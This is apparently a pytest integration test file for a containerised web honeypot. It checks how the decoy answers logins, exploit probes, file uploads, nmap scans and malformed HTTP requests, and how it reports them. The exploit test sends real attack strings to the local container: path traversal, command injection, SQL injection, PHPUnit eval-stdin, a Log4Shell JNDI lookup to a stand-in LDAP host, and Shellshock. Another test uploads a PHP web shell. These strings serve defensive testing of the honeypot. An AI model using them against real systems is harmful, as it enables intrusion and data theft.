"""The web honeypot in its container, visited and attacked by real clients."""

import base64
import hashlib
import json
import os
import socket
import ssl
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from honeypot_testing.container import HoneypotContainer
from honeypot_testing.sensor_end import SensorEnd
from honeypot_testing.waiting import wait_for

from sensor_wire.v1.event import EventBody

IMAGE = os.environ.get("HONEYSENS_WEB_IMAGE", "honeysens/service-web:latest")
SEED = "5e" * 32

pytestmark = pytest.mark.docker


@contextmanager
def started(sensor: SensorEnd, seed: str = SEED, **options: Any) -> Iterator[HoneypotContainer]:
    (sensor.path.parent / "identity").write_text(seed)
    with HoneypotContainer(IMAGE, sensor.path.parent, memory_mb=128, options=options) as container:
        container.wait_for_port(8443)
        yield container


@pytest.fixture
def web(sensor_end: SensorEnd) -> Iterator[HoneypotContainer]:
    with started(sensor_end) as container:
        yield container
        assert "Traceback" not in container.logs()
        assert "ended early" not in container.logs()
    assert not sensor_end.problems


def curl(*arguments: str) -> str:
    command = ["curl", "-sS", "-k", "--globoff", "--path-as-is", "--max-time", "120", *arguments]
    done = subprocess.run(command, capture_output=True, check=False, timeout=150)
    assert done.returncode == 0, done.stderr
    return done.stdout.decode("utf-8", "replace")


def told(sensor: SensorEnd, kind: str) -> list[str]:
    return [detail.data for event in sensor.events for detail in event.details if detail.kind == kind]


def attacks(sensor: SensorEnd) -> set[str]:
    return {json.loads(text)["attack"] for text in told(sensor, "attack")}


def payloads(events: list[EventBody]) -> list[bytes]:
    return [base64.b64decode(packet.payload) for event in events for packet in event.packets]


def exchange(address: str, data: bytes, port: int = 8080) -> bytes:
    """Send bytes and read until the server closes; what it sent before it reset counts."""
    answer = b""
    with socket.create_connection((address, port), 120) as client:
        try:
            client.sendall(data)
            client.shutdown(socket.SHUT_WR)
            while chunk := client.recv(65536):
                answer += chunk
        except ConnectionError:
            pass
    return answer


@pytest.mark.emulated
def test_login_form_over_both_protocols_and_versions_of_ip(sensor_end: SensorEnd, web: HoneypotContainer) -> None:
    sites = {
        f"http://{web.address}:8080": 8080,
        f"https://{web.address}:8443": 8443,
        f"http://[{web.address6}]:8080": 8080,
        f"https://[{web.address6}]:8443": 8443,
    }
    for number, site in enumerate(sites):
        assert "password" in curl(f"{site}/")
        page = curl(f"{site}/index.php", "-d", f"username=admin&password=Winter-{number}")
        assert "not correct" in page
    wait_for(lambda: len(told(sensor_end, "password")) == 4, "four logins")
    assert sorted(told(sensor_end, "password")) == [f"Winter-{number}" for number in range(4)]
    assert set(told(sensor_end, "username")) == {"admin"}
    assert set(told(sensor_end, "login")) == {"refused"}
    ends = {(str(event.source.ip), event.destination.port, str(event.destination.ip)) for event in sensor_end.events}
    assert {port for _, port, _ in ends} == {8080, 8443}
    assert {own for _, _, own in ends} == {web.address, web.address6}
    assert web.gateway in {source for source, _, _ in ends}
    assert len({event.session for event in sensor_end.events}) == len({end[:2] for end in ends})
    assert {event.severity for event in sensor_end.events if event.kind == "login"} == {"medium"}


def test_exploits_get_an_answer_and_a_name(sensor_end: SensorEnd, web: HoneypotContainer) -> None:
    site = f"http://{web.address}:8080"
    assert "root:x:0:0" in curl(f"{site}/view.php?page=../../../../etc/passwd")
    assert "uid=33(www-data)" in curl(f"{site}/ping.php?ip=127.0.0.1%3Bid")
    assert "MariaDB" in curl(f"{site}/list.php?id=-1+union+select+1,version(),3")
    assert "error in your SQL syntax" in curl(f"{site}/list.php?id=1%27")
    assert "6512bd43d9caa6e02c990b0a82652dca" in curl(
        f"{site}/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "-d", "<?php echo md5('11');"
    )
    curl(f"{site}/", "-H", "X-Api-Version: ${jndi:ldap://192.0.2.9:1389/a}")
    curl(f"{site}/cgi-bin/status", "-A", "() { :; }; /bin/cat /etc/passwd")
    names = {"Path traversal", "Command injection", "SQL injection: UNION SELECT", "SQL injection: quote"}
    names |= {"PHPUnit eval-stdin", "Log4Shell", "Shellshock"}
    wait_for(lambda: names <= attacks(sensor_end), lambda: f"{names - attacks(sensor_end)}")
    grave = [event for event in sensor_end.events if event.kind == "exploit"]
    assert {event.severity for event in grave} <= {"high", "critical"}
    assert any(b"${jndi:ldap://192.0.2.9:1389/a}" in payload for payload in payloads(grave))
    assert "id" in told(sensor_end, "command")
    assert "CVE-2021-44228" in " ".join(told(sensor_end, "attack"))


def test_uploaded_file_is_kept_with_its_hash(sensor_end: SensorEnd, web: HoneypotContainer, tmp_path: Path) -> None:
    content = b"<?php system($_GET['c']); ?>\x00\xff\x80" + bytes(range(256)) * 100
    shell = tmp_path / "shell.php"
    shell.write_bytes(content)
    curl(f"https://{web.address}:8443/uploads/", "-F", "title=x", "-F", f"upload=@{shell}")
    assert "201" in curl(
        f"http://{web.address}:8080/dav/shell.jsp", "-T", str(shell), "-o", "/dev/null", "-w", "%{http_code}"
    )
    wait_for(lambda: len(told(sensor_end, "file")) == 2, "both files")
    files = [json.loads(text) for text in told(sensor_end, "file")]
    assert {file["sha256"] for file in files} == {hashlib.sha256(content).hexdigest()}
    assert sorted(file["name"] for file in files) == ["/dav/shell.jsp", "shell.php"]
    assert content[:4096] in payloads(sensor_end.events)
    assert any(event.truncated for event in sensor_end.events)


def certificate(web: HoneypotContainer) -> str:
    return ssl.get_server_certificate((web.address, 8443), timeout=120)


def test_certificate_is_the_sensors_own_and_stays(sensor_end: SensorEnd) -> None:
    with started(sensor_end, host_name="www7", organisation="Example Works") as first:
        shown = certificate(first)
        text = subprocess.run(
            ["openssl", "x509", "-noout", "-subject", "-dates"], input=shown, capture_output=True, text=True, check=True
        )
    with started(sensor_end, host_name="www7", organisation="Example Works") as again:
        assert certificate(again) == shown
    with started(sensor_end, seed="77" * 32, host_name="www7", organisation="Example Works") as other:
        assert certificate(other) != shown
    assert "O = Example Works, CN = www7.intranet.local" in text.stdout
    assert "notBefore" in text.stdout


@pytest.mark.parametrize(
    ("family", "plain", "secured"),
    [
        ("linux", "Apache httpd 2.4", "Apache httpd 2.4"),
        ("appliance", "nginx 1.22", "ssl http nginx 1.22"),
        ("windows", "Microsoft IIS httpd 10.0", "ssl http Microsoft IIS httpd 10.0"),
    ],
)
def test_nmap_names_the_claimed_server(sensor_end: SensorEnd, family: str, plain: str, secured: str) -> None:
    with started(sensor_end, os_family=family) as container:
        scan = ["nmap", "-Pn", "-n", "-sV", "-p", "8080,8443", "-oG", "-", container.address]
        done = subprocess.run(scan, capture_output=True, text=True, check=True, timeout=300)
        ports = done.stdout.partition("Ports: ")[2].replace("|", " ").replace("//", " ")
        first, _, second = ports.partition(", ")
        assert plain in first, done.stdout
        assert secured in second, done.stdout
        assert container.running


UNSOUND = {
    "TLS hello": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200), b"HTTP/1.1 400"),
    "binary": (bytes(range(256)) * 8, b"HTTP/1.1 400"),
    "overlong line": (b"GET /" + b"a" * 70000 + b" HTTP/1.1\r\n\r\n", b"HTTP/1.1 414"),
    "overlong header": (b"GET / HTTP/1.1\r\nHost: x\r\nX: " + b"a" * 70000, b"HTTP/1.1 400"),
    "no version": (b"GET /index.php\r\n", b"<!DOCTYPE html>"),
    "no host": (b"GET / HTTP/1.1\r\n\r\n", b"HTTP/1.1 400"),
    "old version": (b"GET / HTTP/1.0\r\n\r\n", b"HTTP/1.1 200"),
    "another protocol": (b"SSH-2.0-Go\r\n", b"HTTP/1.1 400"),
    "RTSP": (b"OPTIONS / RTSP/1.0\r\n\r\n", b"HTTP/1.1 400"),
    "blank lines first": (b"\r\n\r\nGET / HTTP/1.0\r\n\r\n", b"HTTP/1.1 200"),
    "absolute URI": (b"GET http://example.org/ HTTP/1.1\r\nHost: example.org\r\n\r\n", b"HTTP/1.1 200"),
    "CONNECT": (b"CONNECT example.org:443 HTTP/1.1\r\nHost: example.org\r\n\r\n", b"HTTP/1.1 405"),
    "unknown method": (b"FROBNICATE / HTTP/1.1\r\nHost: x\r\n\r\n", b"HTTP/1.1 501"),
    "chunked": (
        (
            b"POST /index.php HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
            b"Content-Type: application/x-www-form-urlencoded\r\n\r\n"
            b"8\r\nusername\r\n6\r\n=chunk\r\n9\r\n&password\r\n2\r\n=x\r\n0\r\n\r\n"
        ),
        b"HTTP/1.1 200",
    ),
    "broken chunk": (
        b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
        b"HTTP/1.1 200|HTTP/1.1 400",
    ),
    "two lengths": (b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab", b"HTTP/1.1 400"),
    "negative length": (b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\n", b"HTTP/1.1 400"),
    "control characters": (b"GET /\x01\x02 HTTP/1.1\r\nHost: x\r\n\r\n", b"HTTP/1.1 400"),
    "100-continue": (
        b"POST / HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: 3\r\n\r\na=b",
        b"HTTP/1.1 100|HTTP/1.1 200",
    ),
    "pipelined": (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 5, b"HTTP/1.1 200"),
    "too large": (b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 9000000\r\n\r\n" + b"a" * 2_000_000, b"HTTP/1.1 413"),
}


def test_unsound_requests_are_answered_as_the_server_would_and_told(
    sensor_end: SensorEnd, web: HoneypotContainer
) -> None:
    answers = {name: exchange(web.address, data) for name, (data, _) in UNSOUND.items()}
    wrong = {
        name: answers[name][:200]
        for name, (_, expected) in UNSOUND.items()
        if not any(answers[name].startswith(each) for each in expected.split(b"|"))
    }
    assert wrong == {}
    assert answers["pipelined"].count(b"HTTP/1.1 200") == 5
    assert "Reason: You" in exchange(web.address, b"GET / HTTP/1.0\r\n\r\n", 8443).decode("latin-1")
    refused = exchange(web.address, UNSOUND["TLS hello"][0], 8443)
    assert refused.startswith(b"\x15\x03"), "who is refused by TLS is told so by an alert"
    assert "Sign in" in curl(f"http://{web.address}:8080/")
    wait_for(lambda: "chunk" in told(sensor_end, "username"), "the login in chunks")
    wait_for(lambda: "Open proxy" in attacks(sensor_end), "the attempt at a proxy")
    web.stop()
    assert any("FROBNICATE" in text for text in told(sensor_end, "request"))
    assert any("SSH-2.0-Go" in text for text in told(sensor_end, "malformed"))
    assert any("TLS failed" in text for text in told(sensor_end, "connection"))
    assert any(b"\x16\x03\x01\x02" in payload for payload in payloads(sensor_end.events))


def test_stop_hands_over_the_rest(sensor_end: SensorEnd, web: HoneypotContainer) -> None:
    curl(f"http://{web.address}:8080/last-words")
    assert web.stop() == 0
    assert any("/last-words" in text for text in told(sensor_end, "request"))
    assert len(told(sensor_end, "closed")) == len({event.session for event in sensor_end.events})
